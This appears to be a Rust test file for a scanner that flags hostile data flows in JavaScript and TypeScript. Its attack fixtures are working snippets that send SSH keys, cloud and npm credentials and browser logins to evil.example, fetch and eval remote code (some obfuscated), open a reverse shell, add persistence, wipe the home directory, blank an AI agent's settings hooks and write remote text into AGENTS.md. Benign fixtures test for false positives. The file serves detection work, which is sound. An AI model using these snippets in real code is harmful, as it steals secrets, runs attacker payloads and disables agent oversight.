use super::super::CodeLanguage::{JavaScript, Shell, Tsx, TypeScript};
use super::super::FlowKind::{
    AgentTampering, ConditionalTrigger, ControlFileToExecution, DecodedToExecution, Destruction,
    EnvironmentToNetwork, Persistence, PersonalToNetwork, RemoteToAgent, RemoteToExecution,
    ReverseShell, SecretToNetwork,
};
use super::{check_attacks, check_benign, check_files};

#[test]
fn attacks_are_found() {
    check_attacks(
        JavaScript,
        &[
            (
                "key posted",
                SecretToNetwork,
                "const fs = require('fs');\nconst k = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\nfetch('https://evil.example', { method: 'POST', body: k });\n",
            ),
            (
                "path join",
                SecretToNetwork,
                "const fs = require('node:fs'), path = require('path'), os = require('os');\nconst p = path.join(os.homedir(), '.aws', 'credentials');\nconst axios = require('axios');\naxios.post('https://evil.example', { d: fs.readFileSync(p).toString('base64') });\n",
            ),
            (
                "import",
                SecretToNetwork,
                "import { readFile } from 'fs/promises';\nimport axios from 'axios';\nconst main = async () => {\n  const d = await readFile(`${process.env.HOME}/.npmrc`, 'utf8');\n  await axios.put('https://evil.example', d);\n};\nmain();\n",
            ),
            (
                "callback",
                SecretToNetwork,
                "const fs = require('fs'), https = require('https');\nfs.readFile('/root/.ssh/id_rsa', (e, d) => {\n  const r = https.request({ hostname: 'evil.example', method: 'POST' });\n  r.write(d);\n  r.end();\n});\n",
            ),
            (
                "then",
                SecretToNetwork,
                "const fs = require('fs').promises;\nfs.readFile('/root/.netrc').then(d => fetch('https://evil.example?d=' + d));\n",
            ),
            (
                "functions",
                SecretToNetwork,
                "const fs = require('fs');\nfunction load(p) { return fs.readFileSync(p, 'utf8'); }\nfunction send(b) { return fetch('https://evil.example', { method: 'POST', body: JSON.stringify({ b }) }); }\n(async () => { await send(load('/root/.kube/config')); })();\n",
            ),
            (
                "class",
                SecretToNetwork,
                "const fs = require('fs');\nclass A { constructor() { this.d = fs.readFileSync('/root/.git-credentials'); } go() { fetch('https://evil.example', { body: this.d, method: 'POST' }); } }\nnew A().go();\n",
            ),
            (
                "list of paths",
                SecretToNetwork,
                "const fs = require('fs');\nconst out = {};\n['.ssh/id_rsa', '.npmrc'].forEach(n => { out[n] = fs.readFileSync(require('os').homedir() + '/' + n, 'utf8'); });\nfetch('https://evil.example', { method: 'POST', body: JSON.stringify(out) });\n",
            ),
            (
                "token to a stranger",
                SecretToNetwork,
                "fetch('https://evil.example', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });\n",
            ),
            (
                "destructured token",
                SecretToNetwork,
                "const { AWS_SECRET_ACCESS_KEY: k } = process.env;\nfetch(`https://evil.example/?k=${k}`);\n",
            ),
            (
                "dns",
                SecretToNetwork,
                "const d = require('fs').readFileSync('/root/.ssh/id_rsa').toString('hex');\nrequire('dns').lookup(d.slice(0, 60) + '.evil.example', () => {});\n",
            ),
            (
                "net",
                SecretToNetwork,
                "const net = require('net');\nconst c = net.connect(4444, 'evil.example');\nc.write(require('fs').readFileSync('/root/.ssh/id_rsa'));\n",
            ),
            (
                "environment",
                EnvironmentToNetwork,
                "fetch('https://evil.example', { method: 'POST', body: JSON.stringify(process.env) });\n",
            ),
            (
                "environment spread",
                EnvironmentToNetwork,
                "const data = { ...process.env, x: 1 };\nrequire('axios').post('https://evil.example', data);\n",
            ),
            (
                "browser",
                PersonalToNetwork,
                "const fs = require('fs');\nconst p = process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data';\nfetch('https://evil.example', { method: 'POST', body: fs.readFileSync(p) });\n",
            ),
            (
                "agent sessions",
                PersonalToNetwork,
                "const fs = require('fs'), os = require('os');\nconst d = os.homedir() + '/.claude/projects';\nfor (const f of fs.readdirSync(d)) fetch('https://evil.example', { method: 'POST', body: fs.readFileSync(d + '/' + f) });\n",
            ),
            (
                "eval of a response",
                RemoteToExecution,
                "fetch('https://evil.example').then(r => r.text()).then(t => eval(t));\n",
            ),
            (
                "await eval",
                RemoteToExecution,
                "const r = await fetch('https://evil.example');\neval(await r.text());\n",
            ),
            (
                "Function",
                RemoteToExecution,
                "const axios = require('axios');\naxios.get('https://evil.example').then(({ data }) => new Function(data)());\n",
            ),
            (
                "constructor",
                RemoteToExecution,
                "(async () => { const t = await (await fetch('https://evil.example')).text(); [].filter.constructor(t)(); })();\n",
            ),
            (
                "this constructor",
                RemoteToExecution,
                "(async () => { const t = await (await fetch('https://evil.example')).text(); ({}).constructor.constructor(t)(); })();\n",
            ),
            (
                "computed eval",
                RemoteToExecution,
                "fetch('https://evil.example').then(r => r.text()).then(t => globalThis['ev' + 'al'](t));\n",
            ),
            (
                "indirect eval",
                RemoteToExecution,
                "fetch('https://evil.example').then(r => r.text()).then(t => (0, eval)(t));\n",
            ),
            (
                "https get",
                RemoteToExecution,
                "const https = require('https');\nhttps.get('https://evil.example', res => {\n  let b = '';\n  res.on('data', d => { b += d; });\n  res.on('end', () => { eval(b); });\n});\n",
            ),
            (
                "exec of a response",
                RemoteToExecution,
                "const cp = require('child_' + 'process');\nfetch('https://evil.example').then(r => r.text()).then(c => cp['ex' + 'ec'](c));\n",
            ),
            (
                "curl",
                RemoteToExecution,
                "const { execSync } = require('child_process');\nexecSync('curl -s https://evil.example | bash');\n",
            ),
            (
                "spawn sh",
                RemoteToExecution,
                "require('child_process').spawn('sh', ['-c', `wget -qO- ${'https://evil' + '.example'} | sh`]);\n",
            ),
            (
                "file written and run",
                RemoteToExecution,
                "const fs = require('fs'), cp = require('child_process');\nconst r = await fetch('https://evil.example/x');\nfs.writeFileSync('/tmp/x', Buffer.from(await r.arrayBuffer()));\nfs.chmodSync('/tmp/x', 0o755);\ncp.spawn('/tmp/x');\n",
            ),
            (
                "piped to a file",
                RemoteToExecution,
                "const fs = require('fs'), https = require('https'), cp = require('child_process');\nhttps.get('https://evil.example', r => { r.pipe(fs.createWriteStream('/tmp/payload.js')); });\ncp.execFile('node', ['/tmp/payload.js']);\n",
            ),
            (
                "vm",
                RemoteToExecution,
                "const vm = require('vm');\nfetch('https://evil.example').then(r => r.text()).then(t => vm.runInThisContext(t));\n",
            ),
            (
                "remote import",
                RemoteToExecution,
                "import('https://evil.example/x.mjs');\n",
            ),
            (
                "promisified",
                RemoteToExecution,
                "const { promisify } = require('util');\nconst run = promisify(require('child_process').exec);\nawait run('curl https://evil.example | sh');\n",
            ),
            (
                "base64",
                DecodedToExecution,
                "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
            ),
            (
                "atob",
                DecodedToExecution,
                "new Function(atob('Y29uc29sZS5sb2coMSk='))();\n",
            ),
            (
                "decoded theft",
                SecretToNetwork,
                "eval(atob('ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlJyx7bWV0aG9kOidQT1NUJyxib2R5OnJlcXVpcmUoJ2ZzJykucmVhZEZpbGVTeW5jKCcvcm9vdC8uc3NoL2lkX3JzYScpfSk='));\n",
            ),
            (
                "character codes",
                RemoteToExecution,
                "require('child_process').exec(String.fromCharCode(99,117,114,108,32,104,116,116,112,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,124,115,104));\n",
            ),
            (
                "xor loop",
                RemoteToExecution,
                "const e = [100,114,117,107,39,111,115,115,119,61,40,40,98,113,110,107,41,98,127,102,106,119,107,98,123,116,111];\nlet s = '';\nfor (let i = 0; i < e.length; i++) { s += String.fromCharCode(e[i] ^ 7); }\nrequire('child_process').execSync(s);\n",
            ),
            (
                "reversed",
                RemoteToExecution,
                "require('child_process').exec('hs | elpmaxe.live//:ptth lruc'.split('').reverse().join(''));\n",
            ),
            (
                "timer with text",
                DecodedToExecution,
                "setTimeout(atob('Y29uc29sZS5sb2coMSk='), 10);\n",
            ),
            (
                "control file",
                ControlFileToExecution,
                "eval(require('fs').readFileSync('/tmp/.cfg', 'utf8'));\n",
            ),
            (
                "reverse shell",
                ReverseShell,
                "const net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\nconst client = net.connect(4444, '203.0.113.9', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });\n",
            ),
            (
                "rc file",
                Persistence,
                "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x');\n",
            ),
            (
                "settings",
                AgentTampering,
                "const fs = require('fs');\nfs.writeFileSync(`${process.env.HOME}/.claude/settings.json`, JSON.stringify({ hooks: {} }));\n",
            ),
            (
                "remote memory",
                RemoteToAgent,
                "fetch('https://evil.example').then(r => r.text()).then(t => require('fs').appendFileSync('AGENTS.md', t));\n",
            ),
            (
                "home",
                Destruction,
                "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });\n",
            ),
            (
                "not in CI",
                ConditionalTrigger,
                "if (!process.env.CI) { fetch('https://evil.example').then(r => r.text()).then(t => eval(t)); }\n",
            ),
        ],
    );
    check_attacks(
        TypeScript,
        &[
            (
                "typed",
                SecretToNetwork,
                "import * as fs from 'fs';\nconst read = (p: string): string => fs.readFileSync(p, 'utf8') as string;\nasync function send<T>(x: T): Promise<void> { await fetch('https://evil.example', { method: 'POST', body: String(x) }); }\nsend(read('/root/.ssh/id_rsa')!);\n",
            ),
            (
                "enum and class",
                RemoteToExecution,
                "export class Loader { private url: string = 'https://evil.example'; async run(): Promise<void> { const t: string = await (await fetch(this.url)).text(); eval(t); } }\n",
            ),
            (
                "deno",
                RemoteToExecution,
                "const c = await (await fetch('https://evil.example')).text();\nnew Deno.Command('sh', { args: ['-c', c] }).output();\n",
            ),
            (
                "bun",
                RemoteToExecution,
                "const c = await (await fetch('https://evil.example')).text();\nBun.spawn(['sh', '-c', c]);\n",
            ),
        ],
    );
    check_attacks(
        Tsx,
        &[(
            "component",
            RemoteToExecution,
            "export const A = () => { fetch('https://evil.example').then(r => r.text()).then(t => eval(t)); return <div>{1}</div>; };\n",
        )],
    );
}

#[test]
fn ordinary_scripts_are_quiet() {
    check_benign(
        JavaScript,
        &[
            (
                "header",
                "fetch('https://api.openai.com/v1', { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` }, method: 'POST', body: JSON.stringify({ a: 1 }) });\n",
            ),
            (
                "client",
                "const axios = require('axios').create({ baseURL: 'https://api.example.com', headers: { 'x-api-key': process.env.GITHUB_TOKEN } });\naxios.get('/x').then(r => console.log(r.data));\n",
            ),
            (
                "own query",
                "fetch(`https://maps.googleapis.com/x?key=${process.env.GOOGLE_API_KEY}`);\n",
            ),
            (
                "unknown service",
                "fetch('https://api.acme.dev', { method: 'POST', body: JSON.stringify({ key: process.env.ACME_WIDGET_KEY }) });\n",
            ),
            (
                "configured address",
                "fetch(process.env.WEBHOOK_URL, { method: 'POST', body: JSON.stringify({ text: 'hi' }) });\n",
            ),
            (
                "json",
                "const r = await fetch('https://api.example.com');\nconst d = await r.json();\nrequire('fs').writeFileSync('out.json', JSON.stringify(d));\n",
            ),
            (
                "argument",
                "const { spawnSync } = require('child_process');\nconst t = (await (await fetch('https://api.example.com')).json()).title;\nspawnSync('git', ['commit', '-m', t]);\n",
            ),
            (
                "upload",
                "const fs = require('fs');\nfetch('https://api.example.com', { method: 'POST', body: fs.readFileSync(process.argv[2]) });\n",
            ),
            (
                "environment of a child",
                "require('child_process').spawn('npm', ['test'], { env: { ...process.env, A: '1' }, stdio: 'inherit' });\n",
            ),
            (
                "own module",
                "const path = require('path');\nconst u = require('./util');\nu.run(path.join(__dirname, 'x.json'));\n",
            ),
            (
                "template",
                "const html = `<p>${'a' + 'b'}</p>`;\nconsole.log(html);\n",
            ),
            (
                "regexp exec",
                "const m = /a(b)/.exec('ab');\nconsole.log(m[1]);\n",
            ),
            (
                "playwright",
                "const { chromium } = require('playwright');\nconst b = await chromium.launch();\nconst p = await b.newPage();\nawait p.goto('https://example.com');\nconsole.log(await p.evaluate(() => document.title));\n",
            ),
            ("timer", "setTimeout(() => console.log(1), 10);\n"),
            (
                "decoded image",
                "const fs = require('fs');\nconst r = await (await fetch('https://api.example.com')).json();\nfs.writeFileSync('x.png', Buffer.from(r.data, 'base64'));\n",
            ),
            (
                "local",
                "fetch('http://127.0.0.1:9000', { method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa') });\n",
            ),
            (
                "express",
                "const express = require('express');\nconst app = express();\napp.post('https://x/y', (q, s) => s.send(q.body));\napp.get('/', (q, s) => s.json({ a: process.env.NODE_ENV }));\n",
            ),
            (
                "file of the project",
                "const fs = require('fs');\nconst p = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nconsole.log(p.version);\n",
            ),
            (
                "settings below home",
                "const fs = require('fs'), os = require('os'), path = require('path');\nconst c = JSON.parse(fs.readFileSync(path.join(os.homedir(), '.mytool', 'config.json')));\nfetch('https://api.example.com', { headers: { Authorization: c.token } });\n",
            ),
            (
                "dotenv",
                "require('dotenv').config();\nfetch('https://api.example.com', { headers: { 'x-key': process.env.SECRET_TOKEN } });\n",
            ),
            (
                "git",
                "const { execSync } = require('child_process');\nconst out = execSync('git log -1', { encoding: 'utf8' });\nconsole.log(out.trim());\n",
            ),
            (
                "command with a name",
                "const { execSync } = require('child_process');\nconst f = process.argv[2];\nexecSync(`ffmpeg -i ${f} out.mp4`);\n",
            ),
            (
                "clean",
                "require('fs').rmSync('dist', { recursive: true, force: true });\nrequire('rimraf').sync('node_modules');\n",
            ),
            (
                "date",
                "const d = new Date();\nif (d.getHours() > 12) console.log('pm');\n",
            ),
            (
                "is CI",
                "const color = process.env.CI ? false : true;\nconsole.log(color);\n",
            ),
            (
                "worker",
                "const { Worker } = require('worker_threads');\nnew Worker('./worker.js');\n",
            ),
            (
                "minified",
                "!function(e,t){\"object\"==typeof exports?module.exports=t():e.X=t()}(this,(function(){return{a:function(e){return e+1}}}));\n",
            ),
        ],
    );
}

#[test]
fn values_pass_between_files() {
    check_files(
        "required function",
        SecretToNetwork,
        &[
            (
                "lib/util.js",
                JavaScript,
                "exports.send = x => fetch('https://evil.example', { method: 'POST', body: x });\n",
            ),
            (
                "index.js",
                JavaScript,
                "const { send } = require('./lib/util');\nsend(require('fs').readFileSync('/root/.ssh/id_rsa'));\n",
            ),
        ],
    );
    check_files(
        "exported function",
        SecretToNetwork,
        &[
            (
                "src/net.ts",
                TypeScript,
                "export async function send(x: string) { await fetch('https://evil.example', { method: 'POST', body: x }); }\nexport default send;\n",
            ),
            (
                "src/main.ts",
                TypeScript,
                "import out, { send } from './net.js';\nimport fs from 'node:fs';\nout(fs.readFileSync('/root/.ssh/id_rsa', 'utf8'));\n",
            ),
        ],
    );
    check_files(
        "module.exports of an object",
        RemoteToExecution,
        &[
            (
                "a.js",
                JavaScript,
                "module.exports = { run: c => require('child_process').execSync(c), get: async u => (await fetch(u)).text() };\n",
            ),
            (
                "b.js",
                JavaScript,
                "const a = require('./a');\n(async () => a.run(await a.get('https://evil.example')))();\n",
            ),
        ],
    );
    check_files(
        "downloaded and required",
        RemoteToExecution,
        &[
            (
                "get.sh",
                Shell,
                "curl -s https://evil.example -o ./vendor/plug.js\n",
            ),
            ("main.js", JavaScript, "require('./vendor/plug.js');\n"),
        ],
    );
}
